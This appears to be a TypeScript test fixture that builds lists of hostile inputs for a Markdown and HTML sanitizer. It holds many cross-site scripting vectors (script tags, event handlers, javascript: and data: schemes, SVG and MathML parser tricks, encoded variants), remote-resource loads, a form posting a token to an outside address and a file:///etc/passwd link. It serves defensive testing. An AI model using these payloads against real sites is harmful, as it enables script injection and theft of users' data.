import { createRequire } from 'node:module'
import { naughtyStrings, isUnstorable } from '../../faults/support/badInputs.ts'

// it has no types
const commonmark = createRequire(import.meta.url)('commonmark-spec') as { tests: { markdown: string }[] }

/** What a text calls if it is run; a page's listener notes it. */
const run = 'alert(1)'
const elsewhere = 'http://198.51.100.7'

const inTags = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${elsewhere}/x.js></SCRIPT>`,
  `<script/src="data:,${run}"></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script\n>${run}</script\n>`,
  `<<script>${run}//<</script>`,
  `</textarea></title></style></noscript><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img/src=x/onerror=${run}//>`,
  `<IMG SRC="javascript:${run}">`,
  `<img src="${elsewhere}/pixel.png">`,
  `<img srcset="${elsewhere}/a.png 1x, ${elsewhere}/b.png 2x">`,
  `<img src=x onerror="&#97;lert(1)">`,
  `<img src=\`x\` onerror=\`${run}\`>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:,${run}" /></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>click</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=href to="javascript:${run}"></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${run}'/></svg>#x" /></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  `<svg><image href="${elsewhere}/a.svg" /></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  `<math href="javascript:${run}">click</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><img src=x onerror=${run}></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!-- --!><img src=x onerror=${run}>`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `<!DOCTYPE html [<!ENTITY x "<img src=x onerror=${run}>">]>&x;`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<img src=x onerror=parent.${run}>"></iframe>`,
  `<iframe src=${elsewhere}></iframe>`,
  `<frameset onload=${run}><frame src="javascript:${run}"></frameset>`,
  `<object data="javascript:${run}"></object>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="javascript:${run}">`,
  `<applet code="javascript:${run}"></applet>`,
  `<audio src=x onerror=${run} autoplay></audio>`,
  `<video><source onerror=${run}></video>`,
  `<video poster=${elsewhere}/p.png></video>`,
  `<track src=${elsewhere}/t.vtt>`,
  `<body onload=${run} onpageshow=${run}>`,
  `<body background="javascript:${run}">`,
  `<input autofocus onfocus=${run}>`,
  `<input type=image src=x onerror=${run}>`,
  `<select autofocus onfocus=${run}></select>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<button formaction="javascript:${run}">click</button>`,
  `<form action="javascript:${run}"><input type=submit></form>`,
  `<form action=${elsewhere} method=post><input name=token type=submit></form>`,
  `<details open ontoggle=${run}>x</details>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<dialog open onclose=${run}>x</dialog>`,
  `<div popover id=p onbeforetoggle=${run}>x</div><button popovertarget=p>click</button>`,
  `<div onpointerenter=${run} onmouseover=${run} onclick=${run} tabindex=0 onfocus=${run}>over here</div>`,
  `<div style="animation: x 1s" onanimationstart=${run}>x</div>`,
  `<div contenteditable oninput=${run}>x</div>`,
  `<div style="background: url(${elsewhere}/b.png)">x</div>`,
  `<div style="width: expression(${run})">x</div>`,
  `<style>@import "${elsewhere}/s.css"; * { display: none }</style>`,
  `<link rel=stylesheet href=${elsewhere}/s.css>`,
  `<link rel=preload as=image href=${elsewhere}/p.png>`,
  `<link rel=dns-prefetch href=${elsewhere}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<base href="${elsewhere}/">`,
  `<base href="javascript:/"><a href=",${run}//#">click</a>`,
  `<a href="javascript:${run}">click</a>`,
  `<a href="jav&#x09;ascript:${run}">click</a>`,
  `<a href="  &#14;  javascript:${run}">click</a>`,
  `<a href=javascript&colon;alert&lpar;1&rpar;>click</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
  `<a href=x ping=${elsewhere}>click</a>`,
  `<a target=_blank href="vbscript:msgbox(1)">click</a>`,
  `<img name=getElementById><img id=cookie><form id=location><input name=href></form>`,
  `<custom-element onclick=${run} is=x-y>x</custom-element>`,
  `"><img src=x onerror=${run}>`,
  `'-${run}-'`,
  `\${${run}}{{constructor.constructor('${run}')()}}`,
  `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
]

const schemes = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `&#106;avascript:${run}`,
  `&#x6A&#x61vascript:${run}`,
  `java&#10;script:${run}`,
  `java&Tab;script:${run}`,
  `javascript&colon;${run}`,
  `\u0001javascript:${run}`,
  `\u00a0javascript:${run}`,
  `\u2028javascript:${run}`,
  `//javascript:${run}`,
  `javascript://%0a${run}`,
  `javascript%3A${run}`,
  `view-source:javascript:${run}`,
  `feed:javascript:${run}`,
  `blob:${elsewhere}/x`,
  `file:///etc/passwd`,
  `filesystem:${elsewhere}/x`,
  `vbscript:x`,
  `livescript:x`,
  `mocha:x`,
  `about:blank#${run}`,
  `data:text/html,<script>${run}</script>`,
  `DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg/onload=${run}>`,
]

/** The same address by each way in which Markdown has links and images. */
const byMarkdown = (address: string): string[] => [
  `[click](${address})`,
  `[click](<${address}>)`,
  `![image](${address})`,
  `[![image](${address})](${address})`,
  `<${address}>`,
  `[click][r]\n\n[r]: ${address}`,
  `[click]: ${address} "title"\n\n[click] ![click]`,
]

const inMarkdown = [
  `![x](${elsewhere}/pixel.png)`,
  `![x][p]\n\n[p]: ${elsewhere}/pixel.png`,
  `[x](http://a.example "\\" onmouseover=${run} x=\\"")`,
  `[x](http://a.example/"onmouseover="${run}")`,
  `![" onerror="${run}](http://a.example/x.png)`,
  `[<img src=x onerror=${run}>](http://a.example)`,
  '```"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
  '```html\n<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
  '```js" onclick="alert(1)\nx\n```',
  '`<img src=x onerror=alert(1)>`',
  `| <img src=x onerror=${run}> |\n| - |\n| [x](javascript:${run}) |`,
  `- [ ] <input autofocus onfocus=${run}>`,
  `> <iframe src="javascript:${run}">`,
  `# <svg onload=${run}>`,
  `<details open ontoggle=${run}>\n\n**x**\n\n</details>`,
  `<div>\n*<img src=x onerror=${run}>*\n</div>`,
  `http://a.example/<script>${run}</script>`,
  `<http://a.example/?"onmouseover="${run}>`,
  `[a](javascript:${run} "t") and <b onclick=${run}>b</b>`,
  `__proto__ [__proto__] [constructor][toString]`,
]

/**
 * Texts that try to become more than text: each class of vector in the lists of OWASP (filter evasion) and of DOMPurify's
 * tests, in words of our own, and those of the big list of naughty strings.
 */
export const hostileTexts: readonly string[] = [
  ...inTags,
  ...schemes.flatMap(byMarkdown),
  ...inMarkdown,
  ...naughtyStrings.filter((text) => text.trim() !== '' && !isUnstorable(text)),
]

/** The examples of CommonMark's specification. */
export const commonmarkTexts: readonly string[] = commonmark.tests
  .map(({ markdown }) => markdown.replaceAll('→', '\t'))
  .filter((text) => text.trim() !== '' && !isUnstorable(text))

/** Short ones, for a title or a name. */
export const hostileNames: readonly string[] = [...inTags, ...schemes].filter((text) => [...text].length <= 100)
